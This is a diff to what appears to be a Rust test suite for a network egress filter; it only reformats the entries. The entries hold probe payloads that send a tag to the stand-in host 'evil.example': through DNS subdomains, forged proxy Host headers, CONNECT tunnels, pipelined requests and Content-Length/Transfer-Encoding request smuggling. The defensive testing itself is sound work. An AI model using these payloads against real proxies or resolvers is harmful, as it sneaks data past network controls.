@@ -17,7 +17,11 @@ pub(crate) const NAMES: Class = Class {
         door("puts bytes behind a question", "question", "asks(question('web.example', more=TAG.encode()))"),
         door("asks in another class", "question", "asks(question(TAG + '.wild.example', 1, 3))"),
         door("puts an update in", "question", "asks(question(TAG + '.wild.example', head=b'\\x28\\0\\0\\x01\\0\\0\\0\\0\\0\\0'))"),
-        door("asks two questions", "question", "asks(question('web.example', head=b'\\x01\\0\\0\\x02\\0\\0\\0\\0\\0\\0', more=question(TAG + '.evil.example')[12:]))"),
+        door(
+            "asks two questions",
+            "question",
+            "asks(question('web.example', head=b'\\x01\\0\\0\\x02\\0\\0\\0\\0\\0\\0', more=question(TAG + '.evil.example')[12:]))",
+        ),
         door("sends bytes that are no question", "question", "asks(b'\\0' * 12 + TAG.encode())"),
     ],
 };
@@ -36,9 +40,21 @@ pub(crate) const PROXY: Class = Class {
         door("asks for a private network", "address", "proxy('10.0.0.1:443')"),
         door("puts a body before a tunnel", "malformed", "proxy(f'web.example:{WEB}', 'Content-Length: 5\\r\\n')"),
         door("asks in the name of another host", "malformed", "proxy(f'web.example:{WEB}', 'Host: evil.example:443\\r\\n')"),
-        door("asks for a page instead", "method", "speak('127.0.0.1', 3128, f'GET http://evil.example/{TAG} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')"),
-        door("sends a page instead", "method", "speak('127.0.0.1', 3128, f'POST http://web.example:{WEB}/ HTTP/1.1\\r\\nHost: web.example\\r\\nContent-Length: 20\\r\\n\\r\\n{TAG}')"),
-        door("hides a second tunnel in the first", "other-host", "proxy(f'web.example:{WEB}', '', f'GET /{TAG} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')"),
+        door(
+            "asks for a page instead",
+            "method",
+            "speak('127.0.0.1', 3128, f'GET http://evil.example/{TAG} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
+        ),
+        door(
+            "sends a page instead",
+            "method",
+            "speak('127.0.0.1', 3128, f'POST http://web.example:{WEB}/ HTTP/1.1\\r\\nHost: web.example\\r\\nContent-Length: 20\\r\\n\\r\\n{TAG}')",
+        ),
+        door(
+            "hides a second tunnel in the first",
+            "other-host",
+            "proxy(f'web.example:{WEB}', '', f'GET /{TAG} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
+        ),
         door("names a user", "malformed", "proxy(f'web.example:{WEB}@evil.example:443')"),
         door("names too large a port", "malformed", "proxy('web.example:65979')"),
     ],
@@ -60,9 +76,21 @@ pub(crate) const SPEECH: Class = Class {
         door("meets peers", "unlisted-protocol", "web('\\x13BitTorrent protocol' + 8 * '\\0' + TAG)"),
         door("asks another host", "other-host", "web(f'GET /{TAG} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')"),
         door("asks two hosts", "malformed", "web(f'GET /{TAG} HTTP/1.1\\r\\nHost: web.example:{WEB}\\r\\nHost: evil.example\\r\\n\\r\\n')"),
-        door("asks another host the second time", "other-host", "web(f'GET / HTTP/1.1\\r\\nHost: web.example:{WEB}\\r\\n\\r\\nGET /{TAG} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')"),
-        door("hides a request behind two lengths", "malformed", "web(f'POST /{TAG} HTTP/1.1\\r\\nHost: web.example:{WEB}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n')"),
-        door("turns a request into a tunnel", "unlisted-protocol", "web(f'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: web.example:{WEB}\\r\\n\\r\\n{TAG}')"),
+        door(
+            "asks another host the second time",
+            "other-host",
+            "web(f'GET / HTTP/1.1\\r\\nHost: web.example:{WEB}\\r\\n\\r\\nGET /{TAG} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
+        ),
+        door(
+            "hides a request behind two lengths",
+            "malformed",
+            "web(f'POST /{TAG} HTTP/1.1\\r\\nHost: web.example:{WEB}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n')",
+        ),
+        door(
+            "turns a request into a tunnel",
+            "unlisted-protocol",
+            "web(f'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: web.example:{WEB}\\r\\n\\r\\n{TAG}')",
+        ),
     ],
 };
 
